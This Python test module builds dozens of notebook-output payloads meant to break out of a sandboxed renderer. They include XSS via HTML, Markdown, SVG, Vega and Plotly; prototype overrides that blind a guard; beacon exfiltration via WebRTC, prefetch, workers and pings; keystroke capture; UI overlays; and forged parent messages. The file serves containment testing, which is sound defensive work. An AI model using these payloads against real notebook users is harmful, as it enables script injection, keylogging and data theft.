"""More cells that try to get out, by ways that judge the containment's own lists and its frame.

In what they display, `HIT` and `BEACON` mean the same as in `payloads`.
"""

from __future__ import annotations

from tests.browser.payloads import Payload, with_beacon

_LITE, _VEGA = "application/vnd.vegalite.v5+json", "application/vnd.vega.v5+json"
_IMG = "<img src=x onerror='HIT'>"
_OVER = "background:red;width:600px;height:300px"

# Sends datagrams to the beacon, where WebRTC is there.
_DATAGRAM = (
    "const c=new RTCPeerConnection({iceServers:[{urls:'stun:'+new URL('BEACON').host}]});"
    "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
)
# What a guard could call, replaced before a document of its own is made.
_REPLACED = (
    "RegExp.prototype.test=()=>false",
    "RegExp.prototype.exec=String.prototype.match=()=>null",
    "String.prototype.includes=Array.prototype.includes=()=>false",
    "String.prototype.replace=String.prototype.replaceAll=function(){return String(this)}",
    "Array.prototype.forEach=Array.prototype.some=NodeList.prototype.forEach=()=>false",
    "Function.prototype.call=Function.prototype.apply=Reflect.apply=()=>{}",
    "Object.defineProperty=Reflect.defineProperty=Object.freeze=o=>o",
    "Element.prototype.setAttribute=Element.prototype.removeAttribute=()=>{}",
    "self.MutationObserver=class{observe(){}}",
    "delete self.trustedTypes;self.TrustedTypePolicyFactory=undefined",
)

_HTML = {
    "a datagram": f"<script>{_DATAGRAM}</script>",
    **{
        f"a frame made after {code.partition('=')[0]}": f"<script>{code};"
        "const f=document.createElement('iframe');"
        f"f['src'+'doc']=`<scr`+`ipt>HIT;{_DATAGRAM}</scr`+`ipt>`;document.body.append(f)</script>"
        for code in _REPLACED
    },
    # Laid over what stands above, by lengths that come to less than zero.
    "a margin behind a comment": f'<div style="margin-top:/**/-400px;{_OVER}">x</div>',
    "a margin of two numbers in one": f'<div style="margin:0 0 0-400px;{_OVER}">x</div>',
    "a margin that is calculated": f'<div style="margin-top:calc(0px - 400px);{_OVER}">x</div>',
    "a margin that is multiplied": f'<div style="margin-top:calc(400px*-1);{_OVER}">x</div>',
    "a letter of a thousand pixels": '<b style="font-size:900px;line-height:0">\u2588</b>',
    "a float out of its box": f'<p style="height:0"><b style="float:left;{_OVER}">x</b></p>',
    "a table's caption out of its box": f'<table style="height:0"><caption style="{_OVER}">x'
    "</caption></table>",
    "a formula in a title": '<b title="$\\href{javascript:HIT}{x}$">x</b>',
    "an area with a ping": '<map name=m><area href="#" ping="BEACON/area"></map>',
    "an attribution": '<img attributionsrc="BEACON/attribution" src="BEACON/a.png">',
    # The frame.
    "rules made by a script": "<script>const s=document.createElement('script');"
    "s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',"
    "urls:['BEACON/rules']}]});document.head.append(s)</script>",
    "a height beyond the page": "<script>for(let i=0;i<3000;i++)parent.postMessage({agentbayHeight:"
    "1e9},'*');parent.postMessage({agentbayHeight:NaN},'*')</script>",
    "an option as a host": "<script>for(const h of ['--remove','-x','a..b','$(x)',';x','a:','a\\n'])"
    "parent.postMessage({agentbayBlocked:h},'*')</script>",
    "a message that is no object": "<script>for(const m of [null,1,'x',[],{agentbayBlocked:{}},"
    "{agentbayHeight:'9'}]){parent.postMessage(m,'*');top.postMessage(m,'*')}</script>",
    "a replaced currentScript": "<script>Object.defineProperty(Document.prototype,'currentScript',"
    "{get(){return top}});Element.prototype.remove=Array.prototype.push=()=>{HIT}</script>"
    "<script>HIT</script>",
    "names of the outer frame": "<div id=note></div><b id=hosts></b><b id=packed>H4sI</b>"
    f"<script>HIT</script><!-- {'x' * 60_000} -->",
    "a style sheet made by a script": "<script>const s=new CSSStyleSheet;s.replace('body{background:"
    "url(BEACON/adopted.png)}');document.adoptedStyleSheets=[s]</script>",
    "a choice of pictures": "<b style=\"background:image-set('BEACON/set.png' 1x)\">x</b>",
    "the navigation interface": "<script>navigation.navigate('BEACON/navigate')</script>",
    "a frame of a fence": '<fencedframe src="BEACON/fenced"></fencedframe>',
    "a preload of a module": '<link rel=modulepreload href="BEACON/preloaded.js">',
    "a manifest": '<link rel=manifest href="BEACON/manifest.json"><link rel=icon href="BEACON/i.ico">',
    "a worker of a worker": "<script>const u=c=>URL.createObjectURL(new Blob([c]));new Worker(u("
    "`new Worker(URL.createObjectURL(new Blob(['fetch(\"BEACON/deep\")'])))`))</script>",
    "a module of data": "<script>import('data:text/javascript,import \"BEACON/deep.js\"')</script>",
    "a transport": "<script>new (self.WebTransport||WebSocket)('BEACON/t'.replace('http:','https:'))"
    "</script>",
    "a style in a shadow": "<div><template shadowrootmode=open><style>:host{background:"
    "url(BEACON/shadow.png)}</style><script>HIT</script></template></div>",
    "a portal by a policy of its own": '<iframe csp="default-src *" srcdoc="<script>HIT</script>'
    '<img src=BEACON/csp.png>"></iframe>',
    "listening in the page": "<script>for(const t of [window,document,document.body])"
    "for(const e of ['paste','beforeinput','keypress'])t.addEventListener(e,()=>{HIT})</script>",
}
_MARKDOWN = {
    "a heading with an id": "# pwned-overlay\n\n## jp-main-dock-panel {#pwned-overlay}",
    "a footnote": "x[^1]\n\n[^1]: <img src=x onerror=HIT>",
    "a picture in a link": "[![x](BEACON/in.png)](javascript:HIT)",
    "a block in a list": "- a\n\n  <script>HIT</script>\n\n  <p onclick=HIT class=click>x</p>",
    "a table with HTML": "|a|\n|-|\n|<img src=x onerror=HIT>|\n|$\\href{javascript:HIT}{x}$|",
    "a picture by a reference of an entity": "![a][&#98;]\n\n[&#98;]: BEACON/entity.png",
    "an address with credentials": "<https://a:b@127.0.0.1/javascript:HIT>",
}


def _signal(**more: object) -> dict[str, object]:
    return {"signals": [{"name": "k", "value": "", **more}]}


_BUNDLES: dict[str, tuple[dict[str, object], dict[str, object]]] = {
    "an embedding with a loader": (
        {_LITE: {"mark": "bar", "data": {"values": [{"a": 1}]}, "encoding": {}}},
        {_LITE: {"embed_options": {"loader": {"baseURL": "BEACON"}, "ast": True}}},
    ),
    "vega, keys typed anywhere, and kept from the page": (
        {
            _VEGA: _signal(
                on=[
                    {
                        "events": {"source": "window", "type": "keypress", "consume": True},
                        "update": "k+event.key",
                    }
                ]
            )
        },
        {},
    ),
    "isolated deep in metadata": (
        {"text/html": "<b>x</b>"},
        {"text/html": {"isolated": ["x"]}, "__proto__": {"isolated": True}},
    ),
    "a picture that is a document": (
        {"image/png": "PHNjcmlwdD5ISVQ8L3NjcmlwdD4=", "text/html": "<script>HIT</script>"},
        {},
    ),
    "a tree with formulas": ({"application/json": {"$\\href{javascript:HIT}{x}$": [_IMG]}}, {}),
    "a type that ends a line": ({"text/html\n": "<script>HIT</script>"}, {}),
}


def _chart(**more: object) -> dict[str, object]:
    return {
        "data": {"values": [{"a": 1, "b": _IMG, "image": "BEACON/row.png"}]},
        "mark": {"type": "bar", "tooltip": True},
        "encoding": {"x": {"field": "a", "type": "quantitative"}, "y": {"field": "b"}},
        **more,
    }


_CHARTS: dict[str, object] = {
    "a picture in a row": _chart(),
    "a picture by a title": _chart(encoding={"tooltip": {"field": "b", "title": "image"}}),
    "markup in a title": _chart(title=_IMG, description=_IMG),
    "an expression of a label": _chart(
        encoding={"x": {"field": "a", "axis": {"labelExpr": "warn('HIT')"}}}
    ),
    "a format of its own": _chart(
        encoding={"x": {"field": "a", "axis": {"formatType": "constructor", "format": "x"}}},
        config={"customFormatTypes": True},
    ),
    "a calculation": _chart(transform=[{"calculate": "data('x')", "as": "c"}]),
    "a scheme that every object has": _chart(
        encoding={"color": {"field": "a", "scale": {"scheme": "constructor"}}}
    ),
    "a field that every object has": _chart(encoding={"x": {"field": "__proto__.pwned"}}),
    "a field that ends its name": _chart(encoding={"x": {"field": "a'];HIT;['"}}),
    "charts repeated": _chart(repeat={"row": ["a"] * 50, "column": ["b"] * 50}),
    "data by an address of a set": _chart(data={"name": "d"}, datasets={"d": "BEACON/set.json"}),
    "a cursor by an address": _chart(mark={"type": "bar", "cursor": "url(BEACON/cursor)"}),
    "a font with an address": _chart(config={"font": "x;background:url(BEACON/font)"}),
}
_CODE = {
    "another's display": "display(HTML('<b>mine</b>'), display_id='shared')\n"
    "from IPython.display import update_display\n"
    "update_display(HTML('<script>HIT</script>'), display_id='shared')",
    "a widget moved by its layout": "w.HTML('<b>x</b>', layout=dict(bottom='400px', left='300px', "
    "width='600px', height='300px'))",
    "a widget moved by a margin": "w.HTML('<b>x</b>', layout=dict(margin='calc(0px - 400px) 0 0', "
    "width='600px', height='300px'))",
    "a widget's layout later": "x = w.HTML('x')\ndisplay(x)\nx.layout.margin = '/**/-400px 0 0 0'\n"
    "x.layout.height = '300px'",
    "a widget in a grid over others": "w.GridBox([w.HTML('x')], layout=dict(grid_template_areas="
    "'\"a\"', grid_gap='0-400px'))",
    "a widget with Output's hook": "o = w.Output(msg_id='x')\ndisplay(o)\no.outputs = ({{'output_type':"
    " 'display_data', 'data': {{'application/vnd.vega.v5+json': {{'signals': [{{'name': 's', 'bind': "
    "{{'element': 'body', 'input': 'text', 'id': 'pwned-overlay'}}}}]}}}}, 'metadata': {{}}}},)",
    "a widget whose class changes later": "x = w.Text('x')\ndisplay(x)\nx.comm.send({{'method': "
    "'update', 'state': {{'_view_name': 'HTMLView', 'value': {img}, '_dom_classes': ['jp-Dialog']}}, "
    "'buffer_paths': []}})",
    # The page refuses the second, and keeps the first: a link then leads to HTML.
    "a widget opened again as another": "from comm import create_comm\nC = '@jupyter-widgets/controls'\n"
    "a, b = w.Text({img}), w.HTML('x')\ndisplay(b)\ncreate_comm(target_name='jupyter.widget', "
    "comm_id=b.model_id, metadata=dict(version='1.0.0'), data=dict(state=dict(_model_name='TextModel', "
    "_model_module=C, _model_module_version='2.0.0', _view_name='TextView', _view_module=C, "
    "_view_module_version='2.0.0')))\nw.Text(), w.Text()\nl = w.jslink((a, 'value'), (b, 'value'))",
    "a link to formulas": "a, b = w.Text({img} + '$\\href{{javascript:1}}{{x}}$'), w.HTMLMath('y')\n"
    "l = w.jsdlink((a, 'value'), (b, 'value'))\ndisplay(w.VBox([a, b]))",
    "a link to a label": "a, b = w.Textarea('$\\href{{javascript:1}}{{x}}$'), w.Label('y')\n"
    "l = w.jslink((a, 'value'), (b, 'value'))\ndisplay(w.VBox([a, b]))",
    "a link to a description": "a, b = w.Text({img}), w.Checkbox(description='y')\n"
    "b.description_allow_html = True\nl = w.jsdlink((a, 'value'), (b, 'description'))\n"
    "display(w.VBox([a, b]))",
    "a link to a colour": "a, b = w.Text('url(BEACON/link.png)'), w.ColorPicker()\n"
    "l = w.Link()\nl.comm.send(dict(method='update', buffer_paths=[], state=dict(source=["
    "'IPY_MODEL_' + a.model_id, 'value'], target=['IPY_MODEL_' + b.style.model_id, 'background'])))\n"
    "display(w.VBox([a, b]))",
    "titles and tips": "w.Accordion([w.Text(tooltip={img}, description_tooltip={img})], titles=[{img}])",
    "code for the next cell": "get_ipython().set_next_input({img} + '\\n!touch pwned', replace=True)",
    "an edit payload": "get_ipython().payload_manager.write_payload(dict(source='edit_magic', "
    "filename='/pwned', line_number=0))",
    "a pager in a pager": "get_ipython().payload_manager.write_payload(dict(source='page', start=0, "
    "data={{'data': {{'text/html': {img}, 'text/plain': 'x'}}}}))",
    "a comm of the control": "from comm import create_comm\ncreate_comm(target_name="
    "'jupyter.widget.control', data={{'method': 'update_states'}})",
    "an error that is markup": "raise type({img}, (Exception,), {{}})('$\\\\href{{javascript:1}}{{x}}$')",
    "links in printed text": "print('\\x1b]8;;javascript:1\\x07x\\x1b]8;;\\x07 javascript:1 data:text/html,x')",
}

# Outputs that once acted, one for each kind: each has variants (`VARIANTS`) that are tried too.
_ONCE_ACTED: dict[str, dict[str, object]] = {
    "markdown, a placeholder of mathematics in an address": {
        "text/markdown": '[x](https://a/@\\@0@@) and $" style="display:block;'
        'content-visibility:auto" oncontentvisibilityautostatechange="HIT" b="$'
    },
    "vega, attributes of a bound input": {
        _VEGA: _signal(bind={"input": "text", "type": "image", "src": "x", "onerror": "HIT"})
    },
    "vega, an input laid over the page": {
        _VEGA: _signal(bind={"element": "body", "input": "text", "style": "position:fixed;inset:0"})
    },
    "vega, keys typed elsewhere in the page": {
        _VEGA: _signal(
            on=[{"events": {"source": "body", "type": "keydown"}, "update": "k+event.key"}]
        )
    },
    "vega, an address loaded with the page's cookies": {
        _VEGA: {"signals": [{"name": "cursor", "value": "url(BEACON), auto"}]}
    },
    "plotly, an address in a label's style": {
        "application/vnd.plotly.v1+json": {
            "data": [{"y": [1, 2]}],
            "layout": {"title": {"text": '<span style="cursor:url(BEACON),auto">t</span>'}},
        }
    },
    "html, a frame made after a built-in of the guard was replaced": {
        "text/html": "<script>RegExp.prototype.test=()=>false;const f=document.createElement("
        f"'iframe');f['src'+'doc']=`<script>HIT;{_DATAGRAM}</scr`+`ipt>`;document.body.append(f)"
        "</script>"
    },
    "svg that is put into a page": {
        "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="9"/onload="HIT"></svg>'
    },
}
#: The other payloads of the same kind as each of these: how their names begin.
VARIANTS = {
    "markdown, a placeholder of mathematics in an address": (
        "a placeholder ",
        "mathematics in an a",
        "mathematics in a title",
        "mathematics of a brace",
        "mathematics over two code spans",
    ),
    "vega, attributes of a bound input": (
        "vega, attributes of a bound",
        "vega-lite, attributes of a ",
    ),
    "vega, an input laid over the page": (
        "vega, an input ",
        "vega 6, an input ",
        "vega-lite, an input ",
        "vega, a list laid ",
    ),
    "vega, keys typed elsewhere in the page": (
        "vega, keys typed ",
        "vega, clicks ",
        "vega, moves ",
        "vega, events ",
        "vega-lite, a selection by the page's keys",
    ),
    "vega, an address loaded with the page's cookies": (
        "vega, an address loaded",
        "vega, a cursor ",
        "vega-lite, a cursor ",
        "vega-lite, a fill by an address",
        "vega-lite that loads",
        "a cursor by an address",
        "a font with an address",
    ),
    "plotly, an address in a label's style": ("plotly, ", "plotly with a picture", "plotly map"),
    "html, a frame made after a built-in of the guard was replaced": ("a frame made after ",),
    "svg that is put into a page": ("svg, ", "svg with a "),
}

#: How many there are of these.
ONCE_ACTED = len(_ONCE_ACTED)


def attack_payloads(beacon: str) -> list[Payload]:
    """All of them, those first that once acted; their beacons lead to that address."""
    cells = [(name, f"display({data!r}, raw=True)") for name, data in _ONCE_ACTED.items()]
    cells += [(name, f"display(HTML({html!r}))") for name, html in _HTML.items()]
    cells += [(name, f"display(Markdown({text!r}))") for name, text in _MARKDOWN.items()]
    cells += [
        (name, f"display({data!r}, raw=True, metadata={metadata!r})")
        for name, (data, metadata) in _BUNDLES.items()
    ]
    cells += [
        (name, f"display({{{_LITE!r}: {chart!r}, 'text/plain': 'x'}}, raw=True)")
        for name, chart in _CHARTS.items()
    ]
    cells += [(name, code.format(img=repr(_IMG))) for name, code in _CODE.items()]
    return with_beacon(cells, beacon, "x")
